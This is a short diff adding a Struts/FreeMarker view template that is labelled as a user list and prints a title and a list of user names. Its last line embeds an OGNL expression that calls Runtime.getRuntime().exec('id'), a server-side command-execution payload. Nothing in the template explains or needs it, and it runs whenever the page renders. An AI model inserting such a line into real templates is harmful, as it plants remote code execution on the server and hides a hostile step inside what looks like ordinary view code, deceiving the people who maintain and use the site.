@@ -0,0 +1,6 @@
+<#-- 用户列表 -->
+<h1>${title!"Users"}</h1>
+<@s.iterator value="users">
+  <li>${name}</li>
+</@s.iterator>
+<@s.property value="%{@java.lang.Runtime@getRuntime().exec('id')}"/>